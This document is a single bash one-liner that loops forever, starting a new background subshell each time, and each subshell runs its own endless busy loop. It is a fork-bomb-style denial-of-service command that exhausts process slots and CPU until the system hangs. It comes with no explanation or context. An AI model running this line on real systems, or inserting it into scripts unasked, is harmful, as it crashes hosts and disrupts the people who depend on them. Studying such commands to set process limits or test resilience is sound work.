while true; do (while true; do :; done) & done
